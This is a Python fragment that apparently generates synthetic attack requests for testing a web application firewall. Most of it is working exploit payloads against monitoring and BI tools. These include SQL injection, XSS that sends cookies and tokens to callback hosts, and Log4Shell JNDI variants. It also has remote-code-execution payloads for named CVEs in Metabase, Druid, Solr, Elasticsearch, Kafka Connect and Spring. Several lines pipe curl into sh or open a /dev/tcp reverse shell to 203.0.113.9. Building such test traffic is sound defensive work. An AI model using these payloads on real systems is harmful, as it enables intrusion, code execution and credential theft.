        return "GET", c.pick(H_GRAFANA), f"/d/{uid}/orders?orgId=1&var-customer=" + encp(p) + "&from=now-6h&to=now", None, None, g_extra(c, False)
    if k == 1:
        qid = c.rng.randint(2, 400)
        return "POST", c.pick(H_REDASH), f"/api/queries/{qid}/results", jdump({"id": qid, "parameters": {c.pick(["country", "customer", "status"]): p}, "max_age": 0}), "application/json", [["Authorization", f"Key {c.tok(40)}"]]
    if k == 2:
        body = {"datasource": {"id": c.rng.randint(1, 90), "type": "table"}, "queries": [{"filters": [{"col": "country", "op": c.pick(["==", "IN", "LIKE"]), "val": p if c.rng.random() < 0.5 else [p]}], "metrics": ["count"], "columns": ["country"], "row_limit": 1000}], "result_format": "json", "result_type": "full"}
        return "POST", c.pick(H_SUPERSET), "/api/v1/chart/data", jdump(body), "application/json", ss_extra(c)
    if k == 3:
        return "GET", c.pick(H_SUPERSET), f"/superset/dashboard/sales-overview/?native_filters_key={c.tok(11)}&country=" + enc(p), None, None, ss_extra(c)
    if k == 4:
        params = [{"type": "category", "value": p, "target": ["variable", ["template-tag", "country"]]}]
        return "GET", c.pick(H_METABASE), f"/api/public/card/{c.uuid()}/query?parameters=" + enc(jdump(params)), None, None, []
    if k == 5:
        return "GET", c.pick(["analytics-api.acme-corp.com", "api.example.io"]), "/api/analytics/events?" + qs([("project", "acme"), ("event", p), ("from", "2026-12-01"), ("to", "2026-12-05")], c.pick([encp, enc])), None, None, [["Authorization", f"Bearer {c.tok(40)}"]]
    if k == 6:
        return "POST", c.pick(["analytics-api.acme-corp.com", "api.example.io"]), "/api/v1/reports/query", jdump({"metric": "revenue", "group_by": ["country"], "filters": {"country": p}, "range": "last_30_days"}), "application/json", [["Authorization", f"Bearer {c.tok(40)}"]]
    if k == 7:
        return "GET", c.pick(["status.example.org", "metrics-api.example.io"]), "/api/metrics/cpu?" + qs([("host", p), ("window", "1h")], encp), None, None, []
    if k == 8:
        return "GET", c.pick(["logs-api.acme-corp.com", "api.example.io"]), "/api/logs/search?" + qs([("service", p), ("level", "error"), ("limit", 100)], enc), None, None, [["Authorization", f"Bearer {c.tok(40)}"]]
    return "POST", c.pick(["analytics-api.acme-corp.com", "api.example.io"]), "/api/v1/export", form([("table", "orders"), ("where_customer", p), ("format", "csv")]), "application/x-www-form-urlencoded", []


def a_sqli(c):
    subs = ["grafana-vars", "redash-params", "superset-filters", "superset-urlparams", "metabase-public", "clickhouse-app", "clickhouse-app", "influx-app", "log-search-app", "export-app"]
    for rnd in range(2):
        for i, p in enumerate(SQLI if rnd == 0 else SQLI[:18]):
            k = (i + rnd * 5) % 10
            m, host, uri, body, ct, ex = sqli_carrier(c, k, p)
            A(c, "sqli", subs[k], m, host, uri, body, ct, extra=ex)
    # InfluxQL built by applications
    for p in ["web-01' OR 1=1 --", "x'; DROP MEASUREMENT cpu; --", "x' OR host =~ /.*/ --", "web-01'; SHOW USERS; --"]:
        A(c, "sqli", "influx-app", "GET", c.pick(["status.example.org", "metrics-api.example.io"]), "/api/metrics/mem?host=" + encp(p) + "&window=6h")
    # Zabbix CVE-2016-10134 and the toggle_ids injection; Nagios XI CVE-2023-40931
    zh = c.pick(H_ZABBIX)
    A(c, "sqli", "zabbix", "GET", zh, "/zabbix/jsrpc.php?sid=0bcd4ade648214dc&type=9&method=screen.get&timestamp=1471403798083&mode=2&screenid=&groupid=&hostid=0&pageFile=history.php&profileIdx=web.item.graph&profileIdx2=2'3297&updateProfile=true&screenitemid=&period=3600&stime=20160817050632&resourcetype=17&itemids%5B23297%5D=23297&action=showlatest&filter=&filter_task=&mark_color=1")
    A(c, "sqli", "zabbix", "GET", zh, "/zabbix/jsrpc.php?type=0&mode=1&method=screen.get&profileIdx=web.item.graph&resourcetype=17&profileIdx2=updatexml(0,concat(0xa,user()),0)")
    A(c, "sqli", "zabbix", "GET", zh, "/zabbix/latest.php?output=ajax&sid=&favobj=toggle&toggle_open_state=1&toggle_ids[]=15385);%20select%20*%20from%20users%20where%20(1=1")
    A(c, "sqli", "nagios", "POST", "nagios.internal.example.net", "/nagiosxi/admin/banner_message-ajaxhelper.php", "action=acknowledge_banner_message&id=3%20AND%20(SELECT%201%20FROM%20(SELECT(SLEEP(5)))a)", "application/x-www-form-urlencoded",
      extra=[["Cookie", f"nagiosxi={c.tok(26)}"]])
    # sort / order parameters and headers or cookies that end up in SQL
    A(c, "sqli", "order-by", "GET", "api.example.io", "/api/v1/dashboards?order_by=" + enc("created_at;SELECT pg_sleep(10)--") + "&limit=20")
    A(c, "sqli", "order-by", "GET", "api.example.io", "/api/v1/reports?sort=" + enc("(CASE WHEN (SELECT substring(version(),1,1))='P' THEN name ELSE id END)") + "&dir=asc")
    A(c, "sqli", "headers", "GET", "analytics-api.acme-corp.com", "/api/v1/usage", extra=[["X-Tenant-Id", "acme' OR '1'='1"], ["Authorization", f"Bearer {c.tok(40)}"]])
    A(c, "sqli", "headers", "GET", "bi.example.org", "/dashboard/7", extra=[["Cookie", "dashboard_pref=1' AND SLEEP(5)#; lang=en"]])
    A(c, "sqli", "headers", "GET", "analytics-api.acme-corp.com", "/api/v1/usage", extra=[["X-Forwarded-For", "127.0.0.1' AND (SELECT 1 FROM pg_sleep(5))--"]])


XSS = [
    "<script>alert(document.domain)</script>",
    "<img src=x onerror=alert(document.cookie)>",
    "<svg/onload=fetch('//OAST/?c='+document.cookie)>",
    "\"><svg onload=alert(1)>",
    "<iframe srcdoc=\"&lt;script&gt;parent.alert(document.domain)&lt;/script&gt;\"></iframe>",
    "<a href=\"jav&#x09;ascript:alert(1)\">runbook</a>",
    "<details open ontoggle=alert(document.domain)>",
    "<img src=x onerror=&#97;&#108;&#101;&#114;&#116;&#40;&#49;&#41;>",
    "<ScRiPt>prompt(1)</sCrIpT>",
    "<body onload=alert(1)>",
    "\"><img src=1 onerror=eval(atob('YWxlcnQoZG9jdW1lbnQuY29va2llKQ=='))>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<input autofocus onfocus=alert(1)>",
    "<video><source onerror=\"alert(1)\">",
    "</script><script>alert(1)</script>",
    "<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\"></object>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert() )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert()//>\\x3e",
    "<a href=\"javascript&colon;alert(1)\">details</a>",
    "<img src=\"x\" onerror=\"window['al'+'ert'](1)\">",
    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
    "<svg><script>alert&#40;1&#41;</script></svg>",
    "<img src=x:x onerror=import('//OAST/x.js')>",
]


def a_xss(c):
    n = 0
    for rnd in range(2):
        for i, p0 in enumerate(XSS if rnd == 0 else XSS[:14]):
            p = p0.replace("OAST", c.oast())
            k = (i * 3 + rnd * 7) % 13
            n += 1
            if k == 0:
                d = grafana_dashboard(c)
                d["title"] = f"Checkout {p}"
                A(c, "xss", "grafana-stored", "POST", c.pick(H_GRAFANA), "/api/dashboards/db", jdump({"dashboard": d, "overwrite": True}), "application/json", extra=g_extra(c, False), ua=c.pick(UA_BROWSER))
            elif k == 1:
                d = grafana_dashboard(c)
                d["panels"][0]["title"] = p
                A(c, "xss", "grafana-stored", "POST", c.pick(H_GRAFANA), "/api/dashboards/db", jdump({"dashboard": d, "overwrite": True}), "application/json", extra=g_extra(c, False), ua=c.pick(UA_BROWSER))
            elif k == 2:
                A(c, "xss", "grafana-stored", "POST", c.pick(H_GRAFANA), "/api/annotations", jdump({"dashboardUID": c.tok(14), "panelId": 2, "time": BASE * 1000, "tags": ["deploy"], "text": p}), "application/json", extra=g_extra(c, False), ua=c.pick(UA_BROWSER))
            elif k == 3:
                snap = {"dashboard": {"title": "snap", "panels": [{"id": 1, "type": "text", "title": "notes", "options": {"mode": "html", "content": p}, "gridPos": {"h": 8, "w": 12, "x": 0, "y": 0}}]}, "expires": 0}
                A(c, "xss", "grafana-snapshot", "POST", c.pick(H_GRAFANA), "/api/snapshots", jdump(snap), "application/json", extra=g_extra(c, False))
            elif k == 4:
                A(c, "xss", "kibana-stored", "POST", c.pick(H_KIBANA), "/api/saved_objects/search", jdump({"attributes": {"title": p, "columns": ["message"], "kibanaSavedObjectMeta": {"searchSourceJSON": jdump({"query": {"query": "", "language": "kuery"}})}}}), "application/json", extra=kbn_extra(c))
            elif k == 5:
                cells = [nb_cell(c, "# Results\n\n" + p, "markdown"), nb_cell(c, "df.head()", n=1)]
                jb = {"type": "notebook", "format": "json", "content": notebook(c, cells)}
                A(c, "xss", "jupyter-notebook", "PUT", c.pick(H_JUPYTER), "/api/contents/shared/report.ipynb", jdump(jb), "application/json", extra=jup_extra(c))
            elif k == 6:
                A(c, "xss", "mlflow", "POST", c.pick(H_MLFLOW), "/ajax-api/2.0/mlflow/runs/set-tag", jdump({"run_id": c.hex(32), "key": "mlflow.note.content", "value": p}), "application/json")
            elif k == 7:
                A(c, "xss", "redash-stored", "POST", c.pick(H_REDASH), "/api/widgets", jdump({"dashboard_id": c.rng.randint(1, 40), "text": p, "visualization_id": None, "width": 1, "options": {"position": {"col": 0, "row": 0, "sizeX": 3, "sizeY": 3}}}), "application/json", extra=[["Authorization", f"Key {c.tok(40)}"]])
            elif k == 8:
                pos = {"MARKDOWN-" + c.tok(10): {"type": "MARKDOWN", "id": "MARKDOWN-x", "children": [], "meta": {"width": 4, "height": 50, "code": "## Notes\n" + p}}}
                A(c, "xss", "superset-stored", "PUT", c.pick(H_SUPERSET), f"/api/v1/dashboard/{c.rng.randint(1, 40)}", jdump({"position_json": jdump(pos), "dashboard_title": "Sales"}), "application/json", extra=ss_extra(c))
            elif k == 9:
                A(c, "xss", "error-reflect", "GET", c.pick(H_PROM), "/api/v1/query?query=" + c.pick([enc, encp, penc])(p))
            elif k == 10:
                A(c, "xss", "error-reflect", "GET", c.pick(H_JAEGER), "/search?service=" + enc(p) + "&limit=20&lookback=1h")
            elif k == 11:
                A(c, "xss", "error-reflect", "GET", c.pick(H_ES), "/logs-*/_search?q=" + enc(p) + "&size=1")
            else:
                A(c, "xss", "metabase-stored", "PUT", c.pick(H_METABASE), f"/api/card/{c.rng.randint(1, 300)}", jdump({"name": "Revenue", "description": p}), "application/json", extra=mb_extra(c))
    # CVE specific
    A(c, "xss", "grafana-angular", "GET", c.pick(H_GRAFANA), "/dashboard/snapshot/%7B%7Bconstructor.constructor(%27alert(document.domain)%27)()%7D%7D?orgId=1")
    A(c, "xss", "grafana-angular", "GET", c.pick(H_GRAFANA), "/dashboard/snapshot/{{constructor.constructor('fetch(%22//" + c.oast() + "/%22%2Bdocument.cookie)')()}}")
    A(c, "xss", "grafana-snapshot", "POST", c.pick(H_GRAFANA), "/api/snapshots", jdump({"dashboard": {"title": "x", "panels": []}, "name": "x", "originalUrl": "javascript:alert(document.domain)//"}), "application/json")
    d = grafana_dashboard(c)
    d["panels"][0]["links"] = [{"title": "Runbook", "url": "javascript:fetch('//" + c.oast() + "/'+localStorage.getItem('grafana.token'))", "targetBlank": False}]
    A(c, "xss", "grafana-stored", "POST", c.pick(H_GRAFANA), "/api/dashboards/db", jdump({"dashboard": d, "overwrite": True}), "application/json", extra=g_extra(c, False))
    A(c, "xss", "kibana-stored", "POST", c.pick(H_KIBANA), "/api/saved_objects/index-pattern", jdump({"attributes": {"title": "logs-*", "fieldFormatMap": jdump({"url.original": {"id": "url", "params": {"urlTemplate": "javascript:alert(document.domain)//{{value}}", "labelTemplate": "{{value}}"}}})}}), "application/json", extra=kbn_extra(c))
    A(c, "xss", "airflow", "GET", c.pick(H_AIRFLOW), "/trigger?dag_id=example_bash_operator&origin=javascript:alert(document.domain)")
    A(c, "xss", "airflow", "GET", c.pick(H_AIRFLOW), "/graph?dag_id=etl_daily&origin=%20javascript%3Aalert(document.cookie)")
    A(c, "xss", "airflow", "PATCH", c.pick(H_AIRFLOW), "/api/v1/dags/etl_daily/dagRuns/manual__2026-12-05/setNote", jdump({"note": "<img src=x onerror=alert(document.domain)>"}), "application/json", extra=af_extra(c))
    logs = {"streams": [{"stream": {"app": "web"}, "values": [[str(BASE * 10 ** 9), '10.2.3.4 - - [05/Dec/2026:07:59:04 +0000] "GET / HTTP/1.1" 200 512 "-" "<script src=//' + c.oast() + '/x.js></script>"']]}]}
    A(c, "xss", "log-ingest", "POST", c.pick(H_LOKI), "/loki/api/v1/push", jdump(logs), "application/json")
    A(c, "xss", "log-ingest", "POST", "graylog.internal.example.net:12201", "/gelf", jdump({"version": "1.1", "host": "web-01", "short_message": "login failed for user \"><img src=x onerror=alert(document.cookie)>", "level": 4}), "application/json")
    A(c, "xss", "alertmanager", "POST", "alertmanager.monitoring.svc:9093", "/api/v2/silences", jdump({"matchers": [{"name": "alertname", "value": "X", "isRegex": False}], "startsAt": "2026-12-05T08:00:00Z", "endsAt": "2026-12-06T08:00:00Z", "createdBy": "x", "comment": "<svg onload=alert(document.domain)>"}), "application/json")
    A(c, "xss", "error-reflect", "GET", c.pick(H_LOKI), "/loki/api/v1/query_range?query=" + enc('{app="\\"><svg/onload=alert(1)>"}') + "&limit=10")
    A(c, "xss", "error-reflect", "GET", c.pick(H_PROM), "/api/v1/label/%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E/values")


def jndi(c, i):
    d = c.oast()
    ip = c.evil_ip()
    forms = [
        f"${{jndi:ldap://{d}/a}}",
        f"${{jndi:rmi://{ip}:1099/Exploit}}",
        f"${{jndi:dns://{d}/x}}",
        f"${{${{lower:j}}ndi:${{lower:l}}${{lower:d}}a${{lower:p}}://{d}/o}}",
        f"${{${{::-j}}${{::-n}}${{::-d}}${{::-i}}:${{::-r}}${{::-m}}${{::-i}}://{ip}:1099/o}}",
        f"${{${{env:BARFOO:-j}}ndi${{env:BARFOO:-:}}${{env:BARFOO:-l}}dap${{env:BARFOO:-:}}//{d}/a}}",
        f"${{jndi:ldap://${{env:USER}}.${{hostName}}.{d}/a}}",
        f"${{${{upper:j}}ndi:ldap://{d}/Basic/Command/Base64/aWQ=}}",
        f"${{j${{k8s:k5:-ND}}i${{sd:k5:-:}}ldap://{d}/x}}",
        f"${{jndi:${{lower:l}}${{lower:d}}ap://{ip}:1389/Exploit}}",
        f"${{${{date:'j'}}${{date:'n'}}${{date:'d'}}${{date:'i'}}:ldap://{d}/a}}",
        f"${{jn${{lower:d}}i:l${{lower:d}}ap://{d}/a}}",
        f"${{jndi:ldaps://{d}:636/a}}",
        f"${{jndi:iiop://{ip}:1050/a}}",
        f"${{j${{::-n}}di:ldap://{d}/a}}",
        f"${{jndi:ldap://127.0.0.1#{d}:1389/a}}",
        f"${{${{sys:foo:-j}}${{sys:foo:-n}}${{sys:foo:-d}}${{sys:foo:-i}}:${{sys:foo:-l}}dap://{d}/a}}",
        f"${{jndi:ldap://{d}/${{java:version}}/${{sys:user.name}}}}",
        f"${{${{lower:${{lower:jndi}}}}:${{lower:rmi}}://{ip}/poc}}",
        f"${{jndi:nis://{ip}/a}}",
    ]
    return forms[i % len(forms)]


def a_java(c):
    hosts = H_SOLR + H_DRUID + H_METABASE + H_KAFKA + ["graylog.internal.example.net:9000", "flink.internal.example.net:8081", "logstash.internal.example.net:8080"] + H_ES
    paths = ["/solr/admin/info/system", "/api/session", "/druid/v2/", "/topics", "/api/system/sessions", "/", "/_cluster/health", "/api/user/current", "/jobs/overview"]
    hnames = ["User-Agent", "X-Api-Version", "X-Forwarded-For", "Referer", "Authorization", "X-Request-Id", "Cookie", "Accept-Language", "X-Forwarded-Host", "CF-Connecting-IP", "Contact", "If-Modified-Since"]
    for i in range(18):
        p = jndi(c, i)
        hn = hnames[i % len(hnames)]
        val = {"Authorization": f"Bearer {p}", "Cookie": f"JSESSIONID={p}", "Referer": f"https://{p}/"}.get(hn, p)
        ua = val if hn == "User-Agent" else c.pick(UA_ATTACK)
        ex = [] if hn == "User-Agent" else [[hn, val]]
        A(c, "java", "log4shell-headers", "GET", c.pick(hosts), c.pick(paths), extra=ex, ua=ua)
    # in query parameters and login forms of Java tools
    A(c, "java", "log4shell-params", "GET", c.pick(H_SOLR), "/solr/admin/cores?action=" + jndi(c, 0) + "&wt=json")
    A(c, "java", "log4shell-params", "GET", c.pick(H_SOLR), "/solr/admin/collections?action=" + enc(jndi(c, 3)))
    A(c, "java", "log4shell-params", "GET", c.pick(H_DRUID), "/druid/coordinator/v1/lookups/config/" + enc(jndi(c, 1), safe=""))
    A(c, "java", "log4shell-params", "POST", c.pick(H_METABASE), "/api/session", jdump({"username": jndi(c, 5), "password": "x"}), "application/json")
    A(c, "java", "log4shell-params", "POST", "graylog.internal.example.net:9000", "/api/system/sessions", jdump({"username": jndi(c, 8), "password": "x", "host": ""}), "application/json", extra=[["X-Requested-By", "XMLHttpRequest"]])
    A(c, "java", "log4shell-params", "GET", c.pick(H_ES), "/logs-*/_search?q=" + encp(jndi(c, 10)))
    A(c, "java", "log4shell-params", "GET", "flink.internal.example.net:8081", "/jobs/" + enc(jndi(c, 14), safe="") + "/exceptions")
    A(c, "java", "log4shell-params", "POST", c.pick(H_KAFKA), "/consumers/" + enc(jndi(c, 12), safe=""), jdump({"name": "c1", "format": "json"}), "application/vnd.kafka.v2+json")
    # in log-ingestion bodies (the shipper forwards them to Logstash/Graylog/Kafka consumers)
    for i in range(11):
        p = jndi(c, i + 4)
        k = i % 7
        if k == 0:
            A(c, "java", "log4shell-ingest", "POST", "graylog.internal.example.net:12201", "/gelf", jdump({"version": "1.1", "host": "web-01", "short_message": f"GET /login 401 ua={p}", "level": 4, "_user_agent": p}), "application/json")
        elif k == 1:
            A(c, "java", "log4shell-ingest", "POST", c.pick(H_LOKI), "/loki/api/v1/push", jdump({"streams": [{"stream": {"app": "web"}, "values": [[str(BASE * 10 ** 9), f'10.2.3.4 - - [05/Dec/2026:07:59:04 +0000] "GET / HTTP/1.1" 200 512 "-" "{p}"']]}]}), "application/json")
        elif k == 2:
            body = {"resourceLogs": [{"resource": {"attributes": [kv("service.name", "web")]}, "scopeLogs": [{"logRecords": [{"timeUnixNano": str(BASE * 10 ** 9), "severityText": "INFO", "body": {"stringValue": "request"}, "attributes": [kv("user_agent.original", p), kv("http.route", "/")]}]}]}]}
            A(c, "java", "log4shell-ingest", "POST", c.pick(H_OTLP), "/v1/logs", jdump(body), "application/json")
        elif k == 3:
            A(c, "java", "log4shell-ingest", "POST", c.pick(H_ES), "/_bulk", jdump({"index": {"_index": "logs-web"}}) + "\n" + jdump({"@timestamp": "2026-12-05T07:59:04Z", "message": f"login failed for {p}", "user.name": p}) + "\n", "application/x-ndjson")
        elif k == 4:
            A(c, "java", "log4shell-ingest", "POST", c.pick(H_KAFKA), "/topics/audit", jdump({"records": [{"value": {"event": "login", "username": p}}]}), "application/vnd.kafka.json.v2+json")
        elif k == 5:
            A(c, "java", "log4shell-ingest", "POST", "splunk-hec.acme-corp.com:8088", "/services/collector/event", jdump({"event": {"msg": "search", "q": p}, "sourcetype": "_json"}), "application/json", extra=[["Authorization", f"Splunk {c.uuid()}"]])
        else:
            A(c, "java", "log4shell-ingest", "POST", "logstash.internal.example.net:8080", "/", jdump({"message": p, "tags": ["web"]}), "application/json")
    # gzip-compressed ingestion (the WAF has to decode the body)
    for i in range(2):
        p = jndi(c, 7 + i)
        data = gzip.compress(jdump({"streams": [{"stream": {"app": "web"}, "values": [[str(BASE * 10 ** 9), f"user-agent: {p}"]]}]}).encode(), mtime=0)
        c.emit("java", "log4shell-ingest", None, None, None, raw=raw_request("POST", "/loki/api/v1/push", [("Host", c.pick(H_LOKI)), ("User-Agent", "promtail/3.2.1"), ("Content-Type", "application/json"), ("Content-Encoding", "gzip")], data))
    # Elasticsearch dynamic scripting: CVE-2014-3120 (MVEL), CVE-2015-1427 (Groovy), Painless attempts
    es_scripts = [
        {"size": 1, "query": {"filtered": {"query": {"match_all": {}}}}, "script_fields": {"x": {"script": "import java.io.*;new java.util.Scanner(Runtime.getRuntime().exec(\"id\").getInputStream()).useDelimiter(\"\\\\A\").next();"}}},
        {"size": 1, "script_fields": {"lupin": {"lang": "groovy", "script": "java.lang.Math.class.forName(\"java.lang.Runtime\").getRuntime().exec(\"cat /etc/passwd\").getText()"}}},
        {"size": 1, "script_fields": {"x": {"lang": "groovy", "script": "def p = ['bash', '-c', 'curl -s http://203.0.113.9/s.sh | sh'].execute(); p.text"}}},
        {"query": {"match_all": {}}, "script_fields": {"x": {"script": {"lang": "painless", "source": "Runtime.getRuntime().exec('id')"}}}},
        {"script": {"source": "new ProcessBuilder(['sh','-c','id > /tmp/o']).start()", "lang": "groovy"}, "query": {"match_all": {}}},
        {"size": 1, "script_fields": {"x": {"script": {"source": "java.lang.Class.forName('java.lang.Runtime').getMethod('getRuntime').invoke(null).exec('whoami')"}}}},
    ]
    for i, b in enumerate(es_scripts):
        path = "/_update_by_query" if "script" in b and "script_fields" not in b else c.pick(["/_search", "/logs-*/_search", "/_search?pretty"])
        A(c, "java", "elasticsearch-script", "POST", c.pick(H_ES), path, jdump(b), "application/json")
    A(c, "java", "elasticsearch-script", "GET", c.pick(H_ES), "/_search?source=" + enc(jdump(es_scripts[1])))
    A(c, "java", "elasticsearch-script", "POST", c.pick(H_ES), "/_scripts/pwn", jdump({"script": {"lang": "painless", "source": "def r = Runtime.getRuntime(); r.exec(params.cmd)"}}), "application/json")
    # Metabase CVE-2023-38646 (pre-auth H2 JDBC) and the CREATE ALIAS variant
    tok = c.uuid()
    h2 = [
        "zip:/app/metabase.jar!/sample-database.db;MODE=MSSQLServer;TRACE_LEVEL_SYSTEM_OUT=1\\;CREATE TRIGGER IAMPWNED BEFORE SELECT ON INFORMATION_SCHEMA.TABLES AS $$//javascript\njava.lang.Runtime.getRuntime().exec('bash -c {echo,YmFzaCAtaSA+JiAvZGV2L3RjcC8yMDMuMC4xMTMuOS80NDQ0IDA+JjE=}|{base64,-d}|{bash,-i}')\n$$--=x",
        "mem:;TRACE_LEVEL_SYSTEM_OUT=1\\;CREATE TRIGGER pwn BEFORE SELECT ON INFORMATION_SCHEMA.TABLES AS $$//javascript\nnew java.lang.ProcessBuilder('sh','-c','curl http://203.0.113.9/m.sh|sh').start()\n$$--=x",
        "mem:;TRACE_LEVEL_SYSTEM_OUT=3;INIT=RUNSCRIPT FROM 'http://203.0.113.9:8000/poc.sql'",
        "mem:test;INIT=CREATE ALIAS SHELLEXEC AS $$ String shellexec(String cmd) throws java.io.IOException { java.util.Scanner s = new java.util.Scanner(Runtime.getRuntime().exec(cmd).getInputStream()).useDelimiter(\"\\\\A\"); return s.hasNext() ? s.next() : \"\"; }$$\\;CALL SHELLEXEC('id')",
    ]
    for i, db in enumerate(h2):
        body = {"token": tok, "details": {"is_on_demand": False, "is_full_sync": False, "is_sample": False, "cache_ttl": None, "refingerprint": False, "auto_run_queries": True, "schedules": {},
                                          "details": {"db": db, "advanced-options": False, "ssl": True}, "name": "an-sec-research-team", "engine": "h2"}}
        A(c, "java", "metabase-h2", "POST", c.pick(H_METABASE), "/api/setup/validate", jdump(body), "application/json")
    A(c, "java", "metabase-h2", "POST", c.pick(H_METABASE), "/api/database", jdump({"engine": "h2", "name": "x", "details": {"db": "jdbc:h2:mem:;TRACE_LEVEL_SYSTEM_OUT=1\\;CREATE TRIGGER t BEFORE SELECT ON INFORMATION_SCHEMA.TABLES AS $$//javascript\njava.lang.Runtime.getRuntime().exec('id')\n$$--=x"}}), "application/json", extra=mb_extra(c))
    # Apache Druid CVE-2021-25646 (JavaScript enabled through an empty key)
    for cmd in ["/bin/bash -c $@|bash 0 echo bash -i >& /dev/tcp/203.0.113.9/4444 0>&1", "curl http://203.0.113.9/d.sh -o /tmp/d.sh", "id"]:
        body = {"type": "index", "spec": {"type": "index", "ioConfig": {"type": "index", "firehose": {"type": "local", "baseDir": "quickstart/tutorial/", "filter": "wikiticker-2015-09-12-sampled.json.gz"}},
                                          "dataSchema": {"dataSource": "sample", "parser": {"type": "string", "parseSpec": {"format": "json", "timestampSpec": {"column": "time", "format": "iso"}, "dimensionsSpec": {}}},
                                                         "transformSpec": {"transforms": [], "filter": {"type": "javascript", "function": "function(value){return java.lang.Runtime.getRuntime().exec('" + cmd + "')}", "dimension": "added", "": {"enabled": "true"}}}}},
                "samplerConfig": {"numRows": 500, "timeoutMs": 15000}}
        A(c, "java", "druid-js", "POST", c.pick(H_DRUID), "/druid/indexer/v1/sampler", jdump(body), "application/json")
    # Solr DataImportHandler CVE-2019-0193
    for cmd in ["id", "curl http://203.0.113.9/s|sh"]:
        dc = ('<dataConfig><dataSource type="URLDataSource"/><script><![CDATA[function poc(row){ var bufReader = new java.io.BufferedReader(new java.io.InputStreamReader(java.lang.Runtime.getRuntime().exec("'
              + cmd + '").getInputStream())); var result = []; while(true) { var oneline = bufReader.readLine(); result.push( oneline ); if(!oneline) break; } row.put("title",result.join("\\n\\r")); return row; }]]></script>'
              '<document><entity name="stackoverflow" url="https://stackoverflow.com/feeds/tag/solr" processor="XPathEntityProcessor" forEach="/feed" transformer="script:poc" /></document></dataConfig>')
        A(c, "java", "solr-dih", "POST", c.pick(H_SOLR), "/solr/core0/dataimport?_=1565530241159&indent=on&wt=json", form([("command", "full-import"), ("verbose", "false"), ("clean", "false"), ("commit", "true"), ("debug", "true"), ("core", "core0"), ("dataConfig", dc), ("name", "dataimport")]), "application/x-www-form-urlencoded")
    # Kafka Connect CVE-2023-25194 (JndiLoginModule through SASL JAAS config)
    for d in [c.oast(), c.evil_ip() + ":1389"]:
        cfg = {"connector.class": "io.debezium.connector.mysql.MySqlConnector", "database.hostname": "mysql", "database.port": "3306", "database.user": "x", "database.password": "x", "database.server.id": "1",
               "database.history.producer.security.protocol": "SASL_SSL", "database.history.producer.sasl.mechanism": "PLAIN",
               "database.history.producer.sasl.jaas.config": f"com.sun.security.auth.module.JndiLoginModule required user.provider.url=\"ldap://{d}/Basic/Command/Base64/aWQ=\" useFirstPass=\"true\" serviceName=\"x\" debug=\"true\" group.provider.url=\"xxx\";"}
        A(c, "java", "kafka-connect-jndi", "POST", "kafka-connect.internal.example.net:8083", "/connectors", jdump({"name": f"pwn-{c.tok(4)}", "config": cfg}), "application/json")
    # Spring expression language in actuators, gateways and BI servers
    A(c, "java", "spel", "POST", "gateway.internal.example.net:8080", "/actuator/gateway/routes/hacktest", jdump({"id": "hacktest", "filters": [{"name": "AddResponseHeader", "args": {"name": "Result", "value": "#{new String(T(org.springframework.util.StreamUtils).copyToByteArray(T(java.lang.Runtime).getRuntime().exec(new String[]{\"id\"}).getInputStream()))}"}}], "uri": "http://example.com"}), "application/json")
    A(c, "java", "spel", "POST", "functions.internal.example.net:8080", "/functionRouter", "test", "text/plain", extra=[["spring.cloud.function.routing-expression", 'T(java.lang.Runtime).getRuntime().exec("touch /tmp/pwned")']])
    A(c, "java", "spel", "GET", "pentaho.acme-corp.com", "/pentaho/api/ldap/config/ldapTreeNodeChildren/require.js?url=" + enc("#{T(java.lang.Runtime).getRuntime().exec('id')}") + "&mgrDn=a&pwd=a")
    A(c, "java", "spel", "POST", "reports.acme-corp.com", "/api/v1/reports/render", jdump({"template": "daily", "title": "${T(java.lang.Runtime).getRuntime().exec('curl http://203.0.113.9/x')}"}), "application/json")
    A(c, "java", "spel", "POST", "app.internal.example.net:8080", "/actuator/env", jdump({"name": "spring.datasource.hikari.connection-test-query", "value": "CREATE ALIAS EXEC AS CONCAT('String shellexec(String cmd) throws java.io.IOException { java.util.Scanner s = new',' java.util.Scanner(Runtime.getRun','time().exec(cmd).getInputStream()); if (s.hasNext()) {return s.next();} throw new IllegalArgumentException(); }');CALL EXEC('curl http://203.0.113.9/x');"}), "application/json")
    A(c, "java", "spel", "POST", "app.internal.example.net:8080", "/actuator/env", jdump({"name": "spring.cloud.bootstrap.location", "value": "http://203.0.113.9/evil.yml"}), "application/json")
    # Apache Unomi CVE-2020-13942 (MVEL and OGNL in a context request)
    A(c, "java", "unomi", "POST", "unomi.internal.example.net:8181", "/context.json", jdump({"filters": [{"id": "boom", "filters": [{"condition": {"parameterValues": {"": "script::Runtime r = Runtime.getRuntime(); r.exec(\"touch /tmp/pwned\");"}, "type": "profilePropertyCondition"}}]}], "sessionId": "boom"}), "application/json")
    A(c, "java", "unomi", "POST", "unomi.internal.example.net:8181", "/context.json", jdump({"personalizations": [{"id": "gender-test", "strategy": "matching-first", "strategyOptions": {"fallback": "var2"}, "contents": [{"filters": [{"condition": {"parameterValues": {"propertyName": "(#runtimeclass = #this.getClass().forName(\"java.lang.Runtime\")).(#getruntimemethod = #runtimeclass.getDeclaredMethods().{^ #this.name.equals(\"getRuntime\")}[0]).(#rtobj = #getruntimemethod.invoke(null,null)).(#execmethod = #runtimeclass.getDeclaredMethods().{? #this.name.equals(\"exec\")}.{? #this.getParameters()[0].getType().getName().equals(\"java.lang.String\")}.{? #this.getParameters().length < 2}[0]).(#execmethod.invoke(#rtobj,\"id\"))", "comparisonOperator": "equals", "propertyValue": "male"}, "type": "profilePropertyCondition"}}]}]}], "sessionId": "x"}), "application/json")
    # Jolokia (JMX over HTTP on monitoring agents and actuators)
    A(c, "java", "jolokia", "POST", "app.internal.example.net:8080", "/actuator/jolokia", jdump({"type": "EXEC", "mbean": "javax.management.loading.MLet", "operation": "getMBeansFromURL", "arguments": [f"http://{c.oast()}/evil.mlet"]}), "application/json")
